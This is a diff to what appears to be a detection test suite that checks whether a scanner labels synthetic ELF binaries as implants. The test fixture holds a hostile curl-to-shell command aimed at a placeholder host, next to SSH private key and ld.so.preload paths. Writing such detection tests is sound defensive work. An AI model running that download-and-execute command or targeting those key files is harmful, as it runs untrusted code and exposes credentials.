@@ -95,7 +95,7 @@ def test_miners_name_their_protocol_and_their_algorithm():
 def test_a_download_for_a_shell_beside_keys_is_an_implant():
     fetched = b"\0curl -s https://barracuda.invalid/n|sh\0"
     assert "binary.implant" in symbols(elf(body=fetched + b"/etc/ld.so.preload\0"))
-    assert "binary.implant" in symbols(elf(body=fetched + b"/root/.ssh/id_rsa\0"))
+    assert "binary.implant" in symbols(elf(body=fetched + b"~/.ssh/id_rsa\0"))
     assert "binary.implant" not in symbols(elf(body=fetched))
     assert "binary.implant" not in symbols(elf(body=b"\0curl -s\0.ssh/authorized_keys\0"))
 
